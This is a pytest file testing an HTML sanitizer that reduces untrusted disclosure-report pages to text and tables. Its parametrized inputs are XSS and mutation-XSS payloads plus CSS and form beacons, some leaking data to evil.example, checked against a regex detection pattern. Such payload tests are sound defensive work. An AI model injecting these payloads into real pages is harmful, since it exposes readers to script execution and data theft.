"""Pages that would do harm: what is shown of them is text and tables."""

from __future__ import annotations

import re

import pytest

from gongkai.archive.workers.sandbox import SandboxError, run_sandboxed
from gongkai.extract.cell_places import write_safe_page
from gongkai.extract.errors import TooLarge
from gongkai.extract.formats.html.page_markup import DEEPEST
from gongkai.extract.model.report import Source
from gongkai.publish.rendering.page_cleaning import clean_page
from gongkai.publish.rendering.rendering_tasks import LIMITS, DrawTask, Refusal, ShowTask, render
from gongkai.publish.rendering.shown_document import encode_shown, show_document
from tests.publish.kept_reports import article

ACTING = re.compile(
    r"script|javascript|on\w+\s*=|url\s*\(|@import|expression|http-equiv|href|srcset|https?:|//|<form|<input|<iframe"
    r"|<svg|<math|<object|<embed|<link|<meta|<base|<style|position|var\(",
    re.I,
)


def shown(markup: str) -> str:
    """Return what is shown of a page."""
    return clean_page(write_safe_page(markup.encode(), "text/html; charset=utf-8"))


@pytest.mark.parametrize(
    "markup",
    [
        "<script>alert(1)</script>",
        "<p onclick=alert(1) onmouseover='x()'>",
        "<img src=x onerror=alert(1)>",
        "<img src='http://evil.example/p.png' srcset='//evil.example/q 2x'>",
        "<a href='javascript:alert(1)'>",
        "<a href='//evil.example/'>",
        "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:x'></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<form action='http://evil.example/'><input name=q value=1><button formaction='//evil.example'>",
        "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
        "<base href='http://evil.example/'>",
        "<link rel=stylesheet href='//evil.example/x.css'>",
        "<style>td{background:url(//evil.example/?leak)} @import '//evil.example/x.css';</style>",
        "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
        "<td style='background:url(//evil.example/)'>",
        "<p style='background-image:url(\"//evil.example/\");color:expression(alert(1))'>",
        "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>",
        "<p style='color:var(--x);border:1px solid url(http://evil.example)'>",
        "<iframe src='//evil.example'></iframe><frameset><frame src='//evil.example'>",
        "<object data='//evil.example/x.swf'><embed src='//evil.example/y'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<textarea></textarea><xmp><script>alert(1)</script></xmp>",
        "<template><script>alert(1)</script></template>",
        "<video src='//evil.example/v' poster='//evil.example/p'><source srcset='//evil.example'>",
        "<p id=c1 class=x title='<script>'>",
        "<div background='//evil.example/b'><table background='//evil.example/t'><tr><td>",
    ],
)
def test_nothing_of_a_page_acts(markup: str) -> None:
    said = shown(f"<body><p>之前</p>{markup}<p>之后</p></body>")
    assert "之前" in said
    assert ACTING.findall(said.replace("</", "<")) == []


@pytest.mark.parametrize(
    "name", ["template", "svg", "object", "form", "math", "noscript", "select"]
)
def test_an_element_without_an_end_hides_no_more_than_the_reader_left_out(name: str) -> None:
    """The reader and the viewer see one tree: a cell that was read is shown, if it can be."""
    page = article().replace(b"<h1>", f"<{name}><h1>".encode(), 1)
    document = show_document(page, Source())
    cell = document.find(("requests", "granted", "total"))
    if cell is not None and cell.numbers:
        assert (f'id="c{cell.numbers[0]}"' in document.markup) == (
            name not in ("svg", "object", "math")
        )


def test_elements_inside_each_other_are_counted() -> None:
    said = shown("<div>" * 1_500 + "内文")
    assert "内文" in said
    assert said.count("<div>") == DEEPEST


def test_cells_keep_their_numbers_in_a_deep_page() -> None:
    page = article().replace(b"<h1>", b"<div>" * 1_000 + b"<h1>", 1)
    document = show_document(page, Source())
    cell = document.find(("requests", "granted", "total"))
    assert cell is not None
    assert "予以公开" in document.markup


def test_a_long_page_is_not_shown() -> None:
    page = "<p>" + "字" * 2_100_000
    with pytest.raises(TooLarge):
        shown(page)


def test_a_report_on_a_long_page_is_shown_by_its_tables() -> None:
    long = f"<p>{'其他内容' * 100}</p>".encode() * 6_000
    document = show_document(article().replace(b"<h1>", long + b"<h1>", 1), Source())
    assert document.kind == "table"
    cell = document.find(("requests", "granted", "total"))
    assert cell is not None
    assert f'id="c{cell.numbers[0]}"' in document.markup


def test_a_page_cannot_have_our_marks() -> None:
    page = article().replace(
        b"<h1>", b"<table><tr><td id=c50 cell-place=50>9</td></tr></table><h1>", 1
    )
    document = show_document(page, Source())
    cell = document.find(("requests", "granted", "total"))
    assert cell is not None
    (number,) = cell.numbers
    assert document.markup.count(f'id="c{number}"') == 1
    assert document.markup.count('id="c50"') == 1


def test_hidden_cells_are_hidden_here_too() -> None:
    page = article().replace(b"<h1>", b"<p style='display:none'>\xe9\x9a\x90</p><h1>", 1)
    assert "隐" not in show_document(page, Source()).markup


def test_a_broken_pdf_is_refused() -> None:
    done = render(DrawTask(b"%PDF-1.4 nothing", 1, ((0.0, 0.0, 10.0, 10.0),), 0))
    assert isinstance(done, Refusal)
    assert done.why


def test_a_document_that_is_none_shows_nothing() -> None:
    done = render(ShowTask(b"\x00\x01\x02", Source()))
    assert isinstance(done, bytes)
    assert b'"kind": "none"' in done


def test_a_rendering_has_an_end() -> None:
    def forever() -> bytes:
        while True:
            encode_shown(show_document(b"<p>", Source()))

    with pytest.raises(SandboxError):
        run_sandboxed(forever, type(LIMITS)(cpu=1, wall=5.0))
